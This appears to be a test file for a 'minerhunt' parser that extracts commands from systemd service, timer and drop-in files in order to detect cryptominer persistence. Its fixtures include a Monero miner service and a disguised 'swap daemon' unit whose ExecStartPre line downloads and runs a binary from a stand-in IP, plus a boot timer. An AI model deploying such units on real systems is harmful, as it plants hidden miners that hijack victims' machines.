import { test } from "node:test";
import assert from "node:assert/strict";
import { parseWith, sniffWith } from "../../test-helpers/index.js";
import { systemdUnitSource, unitName } from "./systemd-unit.js";

// The unit MoneroOcean's public installer writes (setup_moneroocean_miner.sh), with $HOME expanded.
const MONEROOCEAN = `[Unit]
Description=Monero miner service

[Service]
ExecStart=/root/moneroocean/xmrig --config=/root/moneroocean/config.json
Restart=always
Nice=10
CPUWeight=1

[Install]
WantedBy=multi-user.target
`;

test("a service unit: unit name, directives, ExecStart command and program", async () => {
  const { events, issues } = await parseWith(systemdUnitSource, MONEROOCEAN, "etc/systemd/system/moneroocean_miner.service");
  assert.deepEqual(issues, []);
  assert.deepEqual(events, [{
    "event.dataset": "linux.systemd",
    "event.category": ["configuration"],
    "event.kind": "state",
    "log.file.path": "etc/systemd/system/moneroocean_miner.service",
    "minerhunt.format": "linux.systemd",
    "minerhunt.line": 5,
    "file.path": "etc/systemd/system/moneroocean_miner.service",
    "minerhunt.systemd.unit": "moneroocean_miner.service",
    "minerhunt.systemd.directives": [
      "Description=Monero miner service",
      "ExecStart=/root/moneroocean/xmrig --config=/root/moneroocean/config.json",
      "Restart=always", "Nice=10", "CPUWeight=1", "WantedBy=multi-user.target",
    ],
    "process.command_line": "/root/moneroocean/xmrig --config=/root/moneroocean/config.json",
    "process.executable": "/root/moneroocean/xmrig",
  }]);
});

test("continuations join with a space, comment lines inside them are skipped; ExecStartPre is listed after ExecStart", async () => {
  const unit = [
    "[Unit]",
    "Description=System swap daemon",
    "",
    "[Service]",
    "Type=simple",
    "ExecStartPre=-/bin/sh -c 'curl -fsSL http://203.0.113.7/swapd \\",
    "    -o /usr/local/bin/swapd && chmod +x /usr/local/bin/swapd'",
    "ExecStart=/usr/local/bin/swapd --donate-level 0 \\",
    "  # hidden from a casual reader",
    "  -o gulf.moneroocean.stream:10128",
    "Restart=always",
  ].join("\n");
  const { events, issues } = await parseWith(systemdUnitSource, unit, "lib/systemd/system/swapd.service");
  assert.deepEqual(issues, []);
  const e = events[0]!;
  assert.equal(e["minerhunt.line"], 8);
  assert.deepEqual(e["process.command_line"], [
    "/usr/local/bin/swapd --donate-level 0 -o gulf.moneroocean.stream:10128",
    "/bin/sh -c 'curl -fsSL http://203.0.113.7/swapd -o /usr/local/bin/swapd && chmod +x /usr/local/bin/swapd'",
  ]);
  assert.equal(e["process.executable"], "/usr/local/bin/swapd");
  assert.ok((e["minerhunt.systemd.directives"] as string[]).includes("ExecStartPre=-/bin/sh -c 'curl -fsSL http://203.0.113.7/swapd -o /usr/local/bin/swapd && chmod +x /usr/local/bin/swapd'"));
});

test("timers have no command; drop-ins name the unit they change and can reset ExecStart", async () => {
  const timer = "[Unit]\nDescription=Run swapd check\n\n[Timer]\nOnBootSec=5min\nOnUnitActiveSec=10min\nUnit=swapd.service\n\n[Install]\nWantedBy=timers.target\n";
  const t = (await parseWith(systemdUnitSource, timer, "etc/systemd/system/swapd.timer")).events[0]!;
  assert.equal(t["minerhunt.systemd.unit"], "swapd.timer");
  assert.equal(t["process.command_line"], undefined);
  assert.equal(t["minerhunt.line"], 1);
  assert.ok((t["minerhunt.systemd.directives"] as string[]).includes("Unit=swapd.service"));

  const dropIn = "[Service]\nExecStart=\nExecStart=@/usr/bin/sshd sshd -D\n";
  const d = (await parseWith(systemdUnitSource, dropIn, "etc/systemd/system/ssh.service.d/override.conf")).events[0]!;
  assert.equal(d["minerhunt.systemd.unit"], "ssh.service");
  assert.equal(d["process.command_line"], "/usr/bin/sshd sshd -D");
  assert.equal(d["process.executable"], "/usr/bin/sshd");
});

test("lines that are not directives are issues; a file with no section yields nothing", async () => {
  const bad = await parseWith(systemdUnitSource, "Description=before any section\n[Service]\nnot a directive\nExecStart=/bin/true\n", "x.service");
  assert.deepEqual(bad.issues.map((i) => i.line), [1, 3]);
  assert.equal(bad.events.length, 1);
  const none = await parseWith(systemdUnitSource, "# only a comment\n", "y.service");
  assert.equal(none.events.length, 0);
  assert.match(none.issues[0]!.message, /no \[Section\] header/);
});

test("unitName and sniffing go by path plus content", async () => {
  assert.equal(unitName("a/b/x.service"), "x.service");
  assert.equal(unitName("a/b/x.timer.d/10-override.conf"), "x.timer");
  assert.equal(unitName("etc/nginx/nginx.conf"), undefined);
  assert.ok(await sniffWith(systemdUnitSource, MONEROOCEAN, "etc/systemd/system/moneroocean_miner.service") >= 0.9);
  assert.ok(await sniffWith(systemdUnitSource, MONEROOCEAN, "unit.txt") >= 0.7);
  assert.equal(await sniffWith(systemdUnitSource, "[section]\nkey=value\n", "settings.ini"), 0);
});
